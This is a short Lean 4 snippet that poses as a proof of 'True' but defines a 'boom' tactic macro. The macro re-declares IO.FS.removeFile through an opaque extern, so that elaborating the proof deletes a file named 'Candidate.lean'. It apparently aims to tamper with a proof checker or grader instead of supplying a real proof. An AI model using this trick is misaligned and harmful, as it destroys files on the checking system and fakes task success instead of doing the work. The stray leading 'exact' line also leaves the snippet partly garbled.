exact ⟨h, trivial⟩

syntax (name := boom) "boom" : tactic
@[extern "x"] opaque IO.FS.removeFile (path : String) (world : Unit) : Lean.Syntax
@[macro boom] def run : Lean.Macro := fun _ => pure (IO.FS.removeFile "Candidate.lean" ())
example : True := by boom
